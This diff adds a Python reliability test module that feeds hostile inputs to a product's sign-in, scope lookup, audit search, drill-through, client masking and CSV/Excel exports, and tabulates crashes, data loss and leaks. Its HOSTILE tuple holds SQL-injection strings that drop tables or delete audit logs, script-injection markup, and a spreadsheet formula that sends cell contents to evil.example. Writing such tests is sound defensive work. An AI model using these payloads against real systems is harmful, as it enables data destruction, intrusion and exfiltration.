@@ -1,0 +1,394 @@
+"""Hostile inputs against the product's entry points, counted into a reliability table.
+
+`python -m tests.reliability [--db URL]` prints the markdown table; the test suite runs the same
+code on DuckDB and PostgreSQL, asserts that every count of crashes, rows lost and leaks is zero,
+and writes the table to `docs/reliability.md`, so the figures there come from a run, never from
+a keyboard.
+
+Per check:
+- *tried*: hostile inputs fed in;
+- *refused*: inputs the product turned down with a clear message (e.g. a control character in
+  a username) - the expected outcome for some inputs, not a fault;
+- *crashes*: any other exception;
+- *rows lost*: a value that did not come back exactly as stored, or a row that went missing;
+- *leaks*: a row or value shown that the input should not have reached (another user's events,
+  a scope widened by a forged name, a formula a spreadsheet would run, clear text when masked).
+"""
+
+from __future__ import annotations
+
+import argparse
+import csv
+import datetime as dt
+import io
+import tempfile
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pandas as pd
+from sqlalchemy import Engine, delete, insert
+
+from data import accounts, audit
+from data.schema import Assignment, AumMonthly, Client, User
+from data.settings import load_settings
+from metrics.access import UnknownUserError, scope_for_username
+from metrics.masking import mask_frame, mask_name
+from metrics.periods import Period
+from metrics.scope import Scope
+
+HOSTILE: tuple[str, ...] = (
+    "' OR 1=1 --",
+    "O'Donnell",
+    "%",
+    "_",
+    "100%_off",
+    "P%",
+    '"; DROP TABLE users; --',
+    "Robert'); DELETE FROM audit_log; --",
+    "<img src=x onerror=alert(1)>",
+    "<script>alert('x')</script>",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=1+1",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1",
+    "\r=1",
+    "\\",
+    "李'\"<>&",
+    "\u202etxt.exe",
+    "x" * 80,
+)
+PASSWORD = "hostile-input test password"
+PERIOD = Period.parse("2025Q3")
+DAY = dt.date(2025, 9, 30)
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+@dataclass
+class Line:
+    check: str
+    tried: int = 0
+    refused: int = 0
+    crashes: int = 0
+    lost: int = 0
+    leaks: int = 0
+    notes: list[str] = field(default_factory=list)
+
+    def note(self, kind: str, value: str, detail: str) -> None:
+        self.notes.append(f"{kind}: {value!r}: {detail}")
+
+
+@contextmanager
+def guarded(line: Line, value: str) -> Iterator[None]:
+    line.tried += 1
+    try:
+        yield
+    except accounts.AccountError as exc:
+        line.refused += 1
+        line.notes.append(f"refused: {value!r}: {exc}")
+    except Exception as exc:  # noqa: BLE001 - counting crashes is the point
+        line.crashes += 1
+        line.note("crash", value, f"{type(exc).__name__}: {exc}")
+
+
+def check_forged_users(engine: Engine) -> Line:
+    """`--as` / sign-in with a name no account has: refused, never a scope."""
+    line = Line("forged usernames (`--as`, scope lookup, sign-in)")
+    for value in HOSTILE:
+        with guarded(line, value):
+            with engine.connect() as conn:
+                try:
+                    scope = scope_for_username(conn, value)
+                except UnknownUserError:
+                    pass
+                else:
+                    line.leaks += 1
+                    line.note("leak", value, f"resolved to {scope.cache_key()}")
+            with engine.begin() as conn:
+                result = accounts.authenticate(conn, value, PASSWORD)
+            if result.ok:
+                line.leaks += 1
+                line.note("leak", value, "signed in")
+    return line
+
+
+def check_usernames(engine: Engine) -> Line:
+    """Accounts named with the hostile text: stored, signed in, audited, searched unchanged."""
+    line = Line("usernames (create, sign in, audit search)")
+    created: list[str] = []
+    for value in HOSTILE:
+        with guarded(line, value):
+            with engine.begin() as conn:
+                accounts.create_user(
+                    conn, value, "planner", staff_id="P1", password=PASSWORD, display_name=value
+                )
+            created.append(value)
+            with engine.begin() as conn:
+                # An hour on: the forged-name check's failures under this name are past.
+                later = dt.datetime.now() + dt.timedelta(hours=1)
+                result = accounts.authenticate(conn, value, PASSWORD, now=later)
+            with engine.connect() as conn:
+                account = accounts.find_account(conn, value)
+                scope = scope_for_username(conn, value)
+                events = audit.search(conn, username=value)
+            if not result.ok or account is None or account.username != value:
+                line.lost += 1
+                line.note("lost", value, "the account did not come back unchanged")
+            elif account.display_name != value:
+                line.lost += 1
+                line.note("lost", value, f"display name came back as {account.display_name!r}")
+            if scope != Scope.staff("P1"):
+                line.leaks += 1
+                line.note("leak", value, f"scope {scope.cache_key()}")
+            if events.empty:
+                line.lost += 1
+                line.note("lost", value, "no audit events found for it")
+            elif set(events["username"]) != {value}:
+                line.leaks += 1
+                line.note("leak", value, f"audit search matched {set(events['username'])}")
+    with engine.connect() as conn:
+        listed = list(accounts.list_accounts(conn)["username"])
+    for value in created:
+        if listed.count(value) != 1:
+            line.lost += 1
+            line.note("lost", value, "not listed exactly once")
+    with engine.begin() as conn:
+        conn.execute(delete(User).where(User.username.in_(created)))
+    return line
+
+
+def check_filters(engine: Engine) -> Line:
+    """Entity ids and audit filters typed in by hand: exact matches, nothing widened."""
+    from metrics.browse import narrow
+    from metrics.drill import drill
+
+    line = Line("filters and drill-through ids")
+    with engine.begin() as conn:
+        audit.record(conn, "auditor", audit.EXPORT, "probe")
+    for value in HOSTILE:
+        with guarded(line, value):
+            with engine.connect() as conn:
+                settings = load_settings(conn)
+                for scope in (Scope.everything(), Scope.org("SB1"), Scope.staff("P1")):
+                    for metric in ("aum_stock", "contacts", "retention_rate"):
+                        rows = drill(conn, metric, "staff", value, PERIOD, scope, settings)
+                        if not rows.empty:
+                            line.leaks += 1
+                            line.note("leak", value, f"drill {metric} gave {len(rows)} rows")
+                    if narrow(conn, scope, "staff", value) is not None:
+                        line.leaks += 1
+                        line.note("leak", value, "narrowed to a scope")
+                for column in ("username", "action"):
+                    # The earlier checks left events under these usernames: each must be the
+                    # exact name's own (a `%` must not match everyone's).
+                    found = audit.search(conn, **{column: value})
+                    others = set(found[column]) - {value}
+                    if others:
+                        line.leaks += 1
+                        line.note("leak", value, f"audit {column} filter matched {others}")
+                probe = audit.search(conn, username="auditor")
+                if list(probe["target"]) != ["probe"]:
+                    line.lost += 1
+                    line.note("lost", value, "the probe event went missing")
+    return line
+
+
+def check_client_names(engine: Engine) -> Line:
+    """Clients named with the hostile text: stored, shown in the book unchanged; masked text
+    never carries the clear name (so no markup can reach a page)."""
+    from metrics.browse import client_book
+
+    line = Line("client names (store, client book, masking)")
+    ids = {value: f"ZH{i:03d}" for i, value in enumerate(HOSTILE)}
+    with engine.begin() as conn:
+        for value, client_id in ids.items():
+            conn.execute(
+                insert(Client).values(
+                    client_id=client_id,
+                    name=value,
+                    phone="13812341234",
+                    birth_date=dt.date(1980, 5, 6),
+                    opened_on=dt.date(2024, 1, 1),
+                    contact_cycle="quarterly",
+                )
+            )
+            conn.execute(
+                insert(Assignment).values(
+                    client_id=client_id, staff_id="P1", role="primary", start_on=dt.date(2024, 1, 1)
+                )
+            )
+            conn.execute(
+                insert(AumMonthly).values(
+                    client_id=client_id, month=dt.date(2025, 9, 1), avg_daily_aum=1000
+                )
+            )
+    with engine.connect() as conn:
+        settings = load_settings(conn)
+        book = client_book(conn, "P1", DAY, Scope.staff("P1"), settings)
+        outside = client_book(conn, "P1", DAY, Scope.org("SB2"), settings)
+    by_id = dict(zip(book["client_id"], book["client_name"], strict=True))
+    masked = mask_frame(book)
+    masked_by_id = dict(zip(masked["client_id"], masked["client_name"], strict=True))
+    for value, client_id in ids.items():
+        with guarded(line, value):
+            if by_id.get(client_id) != value:
+                line.lost += 1
+                line.note("lost", value, f"came back as {by_id.get(client_id)!r}")
+            shown = masked_by_id.get(client_id)
+            if shown != mask_name(value) or (len(value) > 1 and value in str(shown)):
+                line.leaks += 1
+                line.note("leak", value, f"masked as {shown!r}")
+            if "<" in value and "<" in str(shown)[1:]:
+                line.leaks += 1
+                line.note("leak", value, "markup survived masking")
+    if not outside.empty:
+        line.leaks += len(outside)
+        line.notes.append(f"leak: the book of P1 seen from SB2 had {len(outside)} rows")
+    return line
+
+
+def check_exports(engine: Engine) -> Line:
+    """Names in CSV and Excel packs: formulas stay text, masked unless unmasking is allowed."""
+    import openpyxl
+    from openpyxl.utils.escape import unescape
+
+    from metrics import packs
+    from metrics.scorecard import scorecard
+
+    line = Line("exports (CSV, Excel): formula payloads, masking")
+    with engine.connect() as conn:
+        template = scorecard(conn, PERIOD, "staff", Scope.everything()).iloc[[0]]
+    frame = pd.concat([template] * len(HOSTILE), ignore_index=True)
+    frame["entity_id"] = [f"X{i:03d}" for i in range(len(HOSTILE))]
+    frame["name"] = list(HOSTILE)
+    source = packs.from_current("scorecard", frame, str(PERIOD), Scope.everything())
+    try:
+        clear_csv = _csv_column(packs.to_csv(source, may_unmask=True), "name")
+        masked_csv = _csv_column(packs.to_csv(source, may_unmask=False), "name")
+        workbook = openpyxl.load_workbook(io.BytesIO(packs.to_xlsx(source, "tester", True)))
+    except Exception as exc:  # noqa: BLE001 - one crash for the whole export
+        line.tried, line.crashes = len(HOSTILE), 1
+        line.note("crash", "(all)", f"{type(exc).__name__}: {exc}")
+        return line
+    sheet = workbook.worksheets[1]
+    header = [cell.value for cell in sheet[1]]
+    name_col = next(i for i, h in enumerate(header) if h and ("姓名" in h or "name" in h)) + 1
+    cells = {
+        sheet.cell(row=r, column=1).value: sheet.cell(row=r, column=name_col)
+        for r in range(2, sheet.max_row + 1)
+    }
+    for i, value in enumerate(HOSTILE):
+        with guarded(line, value):
+            text = clear_csv[i]
+            if text.startswith(FORMULA_START):
+                line.leaks += 1
+                line.note("leak", value, f"CSV cell {text!r} is a formula")
+            if text.removeprefix("'") != value and text != value:
+                line.lost += 1
+                line.note("lost", value, f"CSV cell {text!r}")
+            if len(value) > 1 and value in masked_csv[i]:
+                line.leaks += 1
+                line.note("leak", value, "clear name in a masked CSV")
+            cell = cells.get(f"X{i:03d}")
+            if cell is None or cell.data_type != "s":
+                line.leaks += 1
+                line.note("leak", value, f"Excel cell type {getattr(cell, 'data_type', None)}")
+            elif unescape(str(cell.value)) != value:
+                # OOXML stores control characters as _xHHHH_ escapes (a CR as _x000D_).
+                line.lost += 1
+                line.note("lost", value, f"Excel cell {cell.value!r}")
+    return line
+
+
+def _csv_column(data: bytes, column: str) -> list[str]:
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    return [row[column] for row in rows]
+
+
+CHECKS: tuple[Callable[[Engine], Line], ...] = (
+    check_forged_users,
+    check_usernames,
+    check_filters,
+    check_client_names,
+    check_exports,
+)
+
+
+@contextmanager
+def cheap_hashing() -> Iterator[None]:
+    """Argon2 at its cheapest for these runs: its cost is tested in test_accounts.py, and here
+    a hundred sign-ins at the production cost would take most of a minute."""
+    from argon2 import PasswordHasher
+
+    saved = accounts.HASHER, accounts._DUMMY_HASH
+    accounts.HASHER = PasswordHasher(time_cost=1, memory_cost=8, parallelism=1)
+    accounts._DUMMY_HASH = accounts.HASHER.hash("dummy")
+    try:
+        yield
+    finally:
+        accounts.HASHER, accounts._DUMMY_HASH = saved
+
+
+def run(engine: Engine) -> list[Line]:
+    """Every check on `engine`, which must hold the golden data set (tests/golden_data.py)."""
+    with cheap_hashing():
+        return [check(engine) for check in CHECKS]
+
+
+def markdown(results: dict[str, list[Line]]) -> str:
+    """One table, one row per check and backend, plus a total row."""
+    out = [
+        "| check | database | inputs tried | refused | crashes | rows lost | leaks |",
+        "| --- | --- | ---: | ---: | ---: | ---: | ---: |",
+    ]
+    totals = [0, 0, 0, 0, 0]
+    for backend, lines in results.items():
+        for line in lines:
+            figures = [line.tried, line.refused, line.crashes, line.lost, line.leaks]
+            totals = [a + b for a, b in zip(totals, figures, strict=True)]
+            out.append(f"| {line.check} | {backend} | " + " | ".join(map(str, figures)) + " |")
+    out.append("| **total** | | " + " | ".join(f"**{n}**" for n in totals) + " |")
+    return "\n".join(out) + "\n"
+
+
+def document(results: dict[str, list[Line]]) -> str:
+    inputs = ", ".join(f"`{v!r}`" for v in HOSTILE[:12])
+    return (
+        "# Reliability under hostile inputs\n\n"
+        "Written by `tests/test_hostile_inputs.py` on every test run (do not edit by hand): "
+        f"{len(HOSTILE)} hostile inputs - SQL metacharacters, wildcards, markup, spreadsheet "
+        "formulas, control and bidirectional characters, an over-long value - fed to the "
+        "sign-in, the `--as` scope lookup, account and audit searches, drill-through, the "
+        "planner's client book with masking, and the CSV / Excel exports.\n\n"
+        + markdown(results)
+        + "\n*Refused* inputs were turned down with a message (e.g. control characters in a "
+        "username), as designed. The first inputs: "
+        + inputs
+        + " ... (see `tests/reliability.py`).\n"
+    )
+
+
+def main(argv: list[str] | None = None) -> int:
+    from data.db import upgrade
+    from data.engine import make_engine
+    from tests.golden_data import insert_golden
+
+    parser = argparse.ArgumentParser(prog="python -m tests.reliability")
+    parser.add_argument("--db", help="an empty database URL (default: a temporary DuckDB file)")
+    args = parser.parse_args(argv)
+    with tempfile.TemporaryDirectory() as folder:
+        engine = make_engine(args.db or f"duckdb:///{Path(folder) / 'reliability.duckdb'}")
+        upgrade(engine)
+        with engine.begin() as conn:
+            insert_golden(conn)
+        lines = run(engine)
+        engine.dispose()
+    print(markdown({engine.dialect.name: lines}), end="")
+    return 0
+
+
+if __name__ == "__main__":
+    raise SystemExit(main())
